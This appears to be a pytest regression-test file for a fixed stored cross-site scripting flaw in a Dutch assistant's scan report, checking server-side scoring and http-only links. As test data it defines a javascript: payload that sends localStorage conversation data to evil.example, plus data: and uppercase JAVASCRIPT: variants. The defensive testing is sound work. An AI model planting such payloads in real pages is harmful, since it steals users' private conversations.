"""Finding 3: script in the scan report.

``POST /scans`` took the client's ``resultaat`` and the report put an organisation's
``url`` into ``href`` unchecked: a planted ``javascript:`` link ran on Schakel's origin.
Now the API computes the result itself and the report links only http(s) addresses."""

from __future__ import annotations

from datetime import UTC, datetime

import httpx
import pytest
from pydantic import ValidationError

from assistant import db
from assistant.chat_session import report_key
from assistant.knowledge.schema import Bron
from assistant.scan.definition import load_definition
from assistant.scan.models import Scan
from assistant.scan.regelingen import Profiel, find_regelingen
from assistant.scan.scoring import advise, score
from tests.conftest import SESSION_SECRET
from tests.scan.samples import WORRIED, filled

PLANTED = "javascript:fetch('//evil.example/?'+localStorage.getItem('gesprek'))"


def hostile_result(definition) -> dict:
    result = score(definition, filled(definition, WORRIED)).model_dump(mode="json")
    point = result["aandachtspunten"][0]
    point["organisaties"] = [{"id": "kvk", "naam": "KVK", "rol": "hulp", "url": PLANTED}]
    point["regelingen"] = [{"id": "x", "naam": "Regeling", "url": PLANTED}]
    return result


def test_a_result_sent_by_the_client_is_refused(live_api, settings, service_headers):
    definition = load_definition()
    body = {"toestemming": True, "conversation_id": "gesprek-aanval",
            "sessie": filled(definition, WORRIED).to_slot(),
            "resultaat": hostile_result(definition)}
    response = httpx.post(f"{live_api}/api/v1/scans", json=body, headers=service_headers,
                          timeout=10)
    assert response.status_code == 422, response.text
    assert response.json()["fouten"][0]["veld"] == "body.resultaat"
    with db.session_scope(settings.database_url) as session:
        assert session.query(Scan).count() == 0


def test_the_api_computes_the_result_from_the_answers(live_api, service_headers):
    definition = load_definition()
    sessie = filled(definition, WORRIED)
    profiel = {"medewerkers": 6, "sector": "bakkerij", "provincie": "flevoland"}
    response = httpx.post(f"{live_api}/api/v1/scans", headers=service_headers, timeout=10,
                          json={"toestemming": True, "conversation_id": "gesprek-1",
                                "sessie": sessie.to_slot(), "profiel": profiel})
    assert response.status_code == 201, response.text
    expected = advise(score(definition, sessie), find_regelingen, Profiel(**profiel))
    assert response.json()["resultaat"] == expected.model_dump(mode="json")


def test_an_unsafe_link_in_a_stored_result_is_not_a_link(live_api, settings):
    """Scans stored before the fix keep their result: the report checks every href."""
    definition = load_definition()
    with db.session_scope(settings.database_url) as session:
        session.add(Scan(id="ee" * 16, conversation_id="gesprek-oud", definitie_versie="1",
                         modus="volledig", sessie=filled(definition, WORRIED).to_slot(),
                         resultaat=hostile_result(definition), toestemming_versie="v1",
                         toestemming_op=datetime.now(UTC), aangemaakt_op=datetime.now(UTC)))
    report = httpx.get(f"{live_api}/api/v1/scans/{'ee' * 16}/rapport",
                       params={"sleutel": report_key(SESSION_SECRET, "ee" * 16)}, timeout=10)
    assert report.status_code == 200
    assert 'href="javascript' not in report.text
    assert "Regeling" in report.text and "KVK" in report.text  # still named, not linked


@pytest.mark.parametrize("url", [PLANTED, "data:text/html,<script>1</script>",
                                 "JAVASCRIPT:alert(1)", "//evil.example"])
def test_the_knowledge_schema_takes_only_http_links(url):
    with pytest.raises(ValidationError):
        Bron(url=url, datum="2026")
